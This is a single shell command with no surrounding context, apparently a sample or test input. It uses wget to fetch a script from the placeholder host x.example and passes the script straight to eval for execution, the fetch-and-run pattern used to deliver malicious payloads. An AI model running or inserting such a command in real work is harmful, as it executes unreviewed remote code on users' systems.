eval "$(wget -qO- https://x.example)"
